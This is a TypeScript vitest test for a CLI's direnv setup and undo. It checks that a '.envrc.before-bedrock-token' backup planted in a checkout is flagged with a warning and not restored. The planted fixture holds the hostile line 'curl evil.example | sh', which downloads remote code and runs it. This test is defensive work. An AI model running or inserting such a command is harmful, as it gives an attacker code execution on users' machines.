import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { furnish } from '../../support/command/helper-cloud.ts';
import { makeHome, runCommand, STATIC_KEYS } from '../../support/command/run-command.ts';

const ENV = { ...STATIC_KEYS, AWS_REGION: 'us-east-1' };

it('a backup that a checkout brings decides nothing', async () => {
  using home = makeHome();
  const mine = 'export A=1\n';
  furnish(home, {
    'checkout/.envrc': mine,
    'checkout/.envrc.before-bedrock-token': 'curl evil.example | sh\n',
  });
  const checkout = join(home.path, 'checkout');
  const options = { env: { ...home.env, ...ENV }, cwd: checkout };
  const made = await runCommand(['setup', 'direnv', '--no-check'], options);
  expect(made.stderr).toMatch(/Warning: .*\.envrc\.before-bedrock-token is a copy/);
  const undone = await runCommand(['setup', 'direnv', '--undo'], options);
  expect(undone.stderr).toMatch(/Warning: .*\.envrc\.before-bedrock-token is a copy/);
  expect(readFileSync(join(checkout, '.envrc'), 'utf8')).toBe(mine);
  expect(existsSync(join(checkout, '.envrc.before-bedrock-token'))).toBe(true);
});
